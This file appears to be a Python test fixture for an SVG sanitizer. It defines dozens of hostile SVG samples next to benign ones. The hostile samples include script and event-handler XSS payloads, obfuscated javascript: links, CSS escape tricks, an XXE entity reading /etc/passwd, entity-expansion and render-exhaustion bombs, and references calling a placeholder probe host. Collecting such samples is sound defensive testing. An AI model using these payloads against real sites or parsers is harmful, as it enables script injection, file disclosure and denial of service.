"""Drawings that act, by trick; `hit()` is what each would call, `PROBE` the host that each would ask."""

from __future__ import annotations

from hostile.payloads import PROBE

_XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def drawing(inside: str, attributes: str = "", before: str = "") -> str:
    """An SVG document around `inside`."""
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" {_XLINK} width="40" height="40"{attributes}>{inside}</svg>'


_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
ACTIVE: dict[str, str] = {
    "script": drawing("<script>hit()</script>"),
    "script-cdata": drawing("<script><![CDATA[hit()]]></script>"),
    "script-href": drawing(f'<script href="http://{PROBE}/x.js"/>'),
    "script-prefix": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>hit()</s:script></s:svg>',
    "script-html": drawing(f"<script {_XHTML}>hit()</script>"),
    "script-deep": drawing("<g><defs><symbol><script>hit()</script></symbol></defs></g>"),
    "script-in-metadata": drawing("<metadata><script>hit()</script></metadata>"),
    "script-in-note": drawing(
        '<n:a xmlns:n="http://www.inkscape.org/namespaces/inkscape"><script>hit()</script></n:a>'
    ),
    "script-before-fault": drawing("<script>hit()</script><b>"),
    "script-then-cut": drawing("<script>hit()</script>").removesuffix("</svg>"),
    "script-utf16": "<?xml version='1.0' encoding='utf-16'?>" + drawing("<script>hit()</script>"),
    "script-latin": "<?xml version='1.0' encoding='iso-8859-1'?>" + drawing("<script>hit()</script>"),
    "utf7": "<?xml version='1.0' encoding='utf-7'?>" + drawing("+ADw-script+AD4-hit()+ADw-/script+AD4-"),
    "ebcdic": "<?xml version='1.0' encoding='cp037'?>" + drawing(""),
    "onload": drawing("", ' onload="hit()"'),
    "onload-upper": drawing("", ' ONLOAD="hit()"'),
    "onclick": drawing('<rect width="9" height="9" onclick="hit()"/>'),
    "onbegin": drawing('<set attributeName="x" to="1" onbegin="hit()"/>'),
    "onerror": drawing('<image href="#no" onerror="hit()"/>'),
    "onfocus": drawing('<a href="#x" tabindex="0" autofocus="" onfocus="hit()"/>'),
    "foreign": drawing(f'<foreignObject><body {_XHTML} onload="hit()"/></foreignObject>'),
    "foreign-iframe": drawing(f'<foreignObject><iframe {_XHTML} src="javascript:hit()"/></foreignObject>'),
    "html-alone": drawing(f'<img {_XHTML} src="x" onerror="hit()"/>'),
    "html-iframe": drawing(f'<iframe {_XHTML} srcdoc="&lt;script&gt;hit()&lt;/script&gt;"/>'),
    "html-embed": drawing(f'<embed {_XHTML} src="http://{PROBE}/"/>'),
    "html-link": drawing(f'<link {_XHTML} rel="stylesheet" href="http://{PROBE}/x.css"/>'),
    "html-meta": drawing(f'<meta {_XHTML} http-equiv="refresh" content="0;url=http://{PROBE}/"/>'),
    "html-base": drawing(f'<base {_XHTML} href="http://{PROBE}/"/>'),
    "html-root": f"<html {_XHTML}><script>hit()</script></html>",
    "xslt-root": '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    "no-namespace": "<svg><script>hit()</script></svg>",
    "mathml": drawing('<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:hit()"/>'),
    "xinclude": drawing(f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="http://{PROBE}/"/>'),
    "listener": drawing('<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load"/>'),
    "handler": drawing('<handler type="application/ecmascript">hit()</handler>'),
    "a-javascript": drawing('<a href="javascript:hit()"><text y="20">x</text></a>'),
    "a-javascript-xlink": drawing('<a xlink:href="javascript:hit()"><text y="20">x</text></a>'),
    "a-javascript-upper": drawing('<a href="JaVaScRiPt:hit()"><text y="20">x</text></a>'),
    "a-javascript-tab": drawing('<a href="java&#9;script:hit()"><text y="20">x</text></a>'),
    "a-javascript-blank": drawing('<a href=" &#10;javascript:hit()"><text y="20">x</text></a>'),
    "a-data": drawing('<a href="data:text/html,&lt;script&gt;hit()&lt;/script&gt;"><text y="20">x</text></a>'),
    "a-odd-prefix": drawing('<a q:href="javascript:hit()" xmlns:q="http://www.w3.org/1999/xlink"/>'),
    "animate-href": drawing('<a><animate attributeName="href" values="javascript:hit()"/><text>x</text></a>'),
    "animate-xlink": drawing('<a><set attributeName="xlink:href" to="javascript:hit()"/><text>x</text></a>'),
    "animate-handler": drawing('<set attributeName="onload" to="hit()"/>'),
    "animate-blank": drawing('<a><set attributeName=" href " to="javascript:hit()"/><text>x</text></a>'),
    "animate-fill": drawing(f'<rect><animate attributeName="fill" values="url(http://{PROBE}/#a)"/></rect>'),
    "use-external": drawing(f'<use href="http://{PROBE}/x.svg#a"/>'),
    "use-data": drawing('<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot;/&gt;#x"/>'),
    "use-relative": drawing('<use xlink:href="other.svg#a"/>'),
    "image-external": drawing(f'<image href="http://{PROBE}/x.png" width="9" height="9"/>'),
    "image-protocol": drawing(f'<image href="//{PROBE}/x.png" width="9" height="9"/>'),
    "image-svg": drawing('<image href="data:image/svg+xml,&lt;svg/&gt;" width="9" height="9"/>'),
    "image-html": drawing('<image href="data:text/html,x" width="9" height="9"/>'),
    "feimage": drawing(f'<filter id="f"><feImage href="http://{PROBE}/x.png"/></filter>'),
    "gradient": drawing(f'<linearGradient href="http://{PROBE}/x.svg#a"/>'),
    "textpath": drawing(f'<text><textPath href="http://{PROBE}/x.svg#a">x</textPath></text>'),
    "base": drawing('<use href="#a"/>', f' xml:base="http://{PROBE}/"'),
    "fill-url": drawing(f'<rect fill="url(http://{PROBE}/x.svg#a)" width="9" height="9"/>'),
    "filter-url": drawing(f'<rect filter="url(\'//{PROBE}/x.svg#a\')" width="9" height="9"/>'),
    "style-url": drawing(f'<rect style="fill:url(http://{PROBE}/#a)" width="9" height="9"/>'),
    "style-escape": drawing(f'<rect style="background:\\75 rl(http://{PROBE}/)" width="9" height="9"/>'),
    "style-set": drawing(f"<rect style=\"background:image-set('http://{PROBE}/x.png' 1x)\"/>"),
    "css-import": drawing(f"<style>@import 'http://{PROBE}/x.css';</style>"),
    "css-import-escape": drawing(f"<style>@\\69mport 'http://{PROBE}/x.css';</style>"),
    "css-import-cdata": drawing(f"<style><![CDATA[@im]]><![CDATA[port url(//{PROBE}/x.css);]]></style>"),
    "css-font": drawing(f"<style>@font-face{{font-family:x;src:url(http://{PROBE}/x.woff2)}}</style>"),
    "css-comment": drawing(f"<style>rect{{background:/**/url(/**/http://{PROBE}/)}}</style>"),
    "css-nested": drawing("<style>a{}<style>b{}</style></style>"),
    "entity": drawing("<g>&x;</g>", before="<!DOCTYPE svg [<!ENTITY x '<script>hit()</script>'>]>"),
    "entity-file": drawing("<text>&x;</text>", before="<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
    "entity-bomb": drawing(
        "<text>&c;</text>",
        before="<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]>",
    ),
    "attlist": drawing("", before="<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'hit()'>]>"),
    "entity-unknown": drawing("<text>&nope;</text>"),
    "sheet": drawing("", before=f'<?xml-stylesheet type="text/css" href="http://{PROBE}/x.css"?>'),
    "sheet-xslt": drawing("", before='<?xml-stylesheet type="text/xsl" href="#x"?>'),
    "xml-11": drawing("", before='<?xml version="1.1"?>'),
    "no-xml": "hit()",
    "empty": "",
    "audio": drawing(f'<audio src="http://{PROBE}/x.mp3" onerror="hit()"/>'),
    "video": drawing(f'<video {_XHTML} src="http://{PROBE}/x.mp4" onerror="hit()"/>'),
    "discard": drawing("<discard/>"),
    "cursor": drawing(f'<cursor href="http://{PROBE}/x.png"/>'),
    "color-profile": drawing(f'<color-profile href="http://{PROBE}/x.icc"/>'),
}


def multiplied(levels: int, times: int = 10) -> str:
    """A drawing of few bytes whose elements show one another `times` times at each of `levels`."""
    shown = [f'<use href="#a{n}"/>' * times for n in range(levels)]
    levels_of = (f'<g id="a{n + 1}">{uses}</g>' for n, uses in enumerate(shown))
    return drawing(
        f'<defs><g id="a0"><rect width="1" height="1"/></g>{"".join(levels_of)}</defs><use href="#a{levels}"/>'
    )


# Short files that a browser makes a hundred thousand elements of, and stands still.
MULTIPLIED: dict[str, str] = {
    "uses-five-levels": multiplied(5),
    "uses-thirty-levels": multiplied(30, 2),
    "uses-within": multiplied(5).replace("<defs>", "<symbol>").replace("</defs>", "</symbol>"),
    "uses-of-many": drawing(f'<g id="a">{"<rect/>" * 300}</g>' + '<use xlink:href=" #a "/>' * 100),
}
# What does nothing to a browser's page and everything to the program that draws it.
HEAVY: dict[str, str] = {
    "octaves": drawing(
        '<filter id="f"><feTurbulence numOctaves="1000000000" baseFrequency=".1"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>'
    ),
    "radius": drawing(
        '<filter id="f"><feMorphology radius="1e9"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "nested": drawing("<g>" * 50_000 + "</g>" * 50_000),
    "tall": '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1000000"><rect width="1" height="9"/></svg>',
}

# Drawings as programs save them and as people write them: nothing in these acts.


# What browsers know by heart below a DOCTYPE of XHTML or MathML, and no parser that reads no other file does.
_BY_HEART = {
    "xhtml": '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    "mobile": '<!DOCTYPE svg PUBLIC "-//WAPFORUM//DTD XHTML Mobile 1.0//EN" "x.dtd">',
    "math": '<!DOCTYPE svg PUBLIC "-//W3C//DTD MathML 2.0//EN" "x.dtd">',
    "svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    "system": '<!DOCTYPE svg SYSTEM "x.dtd">',
}
_NAMED = {
    "style": f'<rect width="9" height="9" style="fill:url&lpar;//{PROBE}/x.svg#a)"/>',
    "sheet": f"<style>*&lbrace;background-image:url&lpar;//{PROBE}/x)}}</style>",
    "import": f"<style>&commat;import '//{PROBE}/x.css';</style>",
    "mask": f'<rect width="9" height="9" mask="url&lpar;//{PROBE}/x.svg#a)"/>',
    "link": '<a href="javascript&colon;hit()"><rect width="9" height="9"/></a>',
    "line": '<a href="&NewLine;javascript:hit()"><rect width="9" height="9"/></a>',
    "use": f'<use href="&sol;&sol;{PROBE}/x.svg#a"/>',
    "animate": '<a href="#x"><animate attributeName="xlink&colon;href" dur="9s" values="javascript:hit()"/>x</a>',
}
ACTIVE.update(
    {
        f"{known}-entity-{name}": drawing(inside, before=doctype)
        for known, doctype in _BY_HEART.items()
        for name, inside in _NAMED.items()
    }
)
_NOTE = 'xmlns:i="http://www.inkscape.org/namespaces/inkscape"'
ACTIVE.update(
    {
        "xhtml-doctype-alone": drawing("", before=_BY_HEART["xhtml"]),
        "note-link": drawing(
            f'<i:a {_NOTE} xlink:type="simple" xlink:actuate="onLoad" xlink:href="javascript:hit()"/>'
        ),
        "note-base": drawing(f'<i:g {_NOTE} xml:base="//{PROBE}/"><use href="#a"/></i:g>'),
        "entity-in-utf16": "<?xml version='1.0' encoding='utf-16'?>" + drawing(_NAMED["link"], before=_BY_HEART["svg"]),
    }
)

HARMLESS: dict[str, str] = {
    "uses": multiplied(2),
    "uses-itself": drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/><rect width="9" height="9"/></g>'),
    "ampersands": drawing("<title>R&amp;D &lt;1&gt; &#38; &quot;x&quot; &apos;</title>"),
    "shapes": drawing('<rect width="9" height="9" fill="#abc"/><path d="M0 0h9v9z"/><circle r="3"/>'),
    "gradient": drawing(
        '<linearGradient id="a"><stop offset="0"/></linearGradient><linearGradient id="b" xlink:href="#a"/>'
        '<rect fill="url(#b)" style="filter: url(\'#f\')" width="9" height="9"/>'
    ),
    "css": drawing("<style>.a{fill:#123;font:12px serif} @media (prefers-color-scheme: dark){.a{fill:#fff}}</style>"),
    "words": drawing("<title>A map</title><desc>An image (of sorts)</desc><text>on and on: javascript:hit()</text>"),
    "label": drawing("", ' role="img" aria-label="image (1903)"'),
    "raster": drawing('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>'),
    "link": drawing('<a href="https://outlet.example/"><text y="20">Outlet</text></a>'),
    "animation": drawing('<circle r="2"><animate attributeName="r" values="2;4;2" dur="3s"/></circle>'),
    "doctype": drawing(
        "<g/>",
        before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ),
    "inkscape": drawing(
        '<s:namedview pagecolor="#fff"/><metadata><r:RDF><c:Work r:about=""/></r:RDF></metadata><g i:label="Layer 1"/>',
        ' xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns:c="http://creativecommons.org/ns#" xmlns:i="http://www.inkscape.org/namespaces/inkscape"',
    ),
    "declared": "<?xml version='1.0' encoding='UTF-8' standalone='no'?><!-- made by hand -->" + drawing("<g/>"),
    "prefixed": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:g/></s:svg>',
}
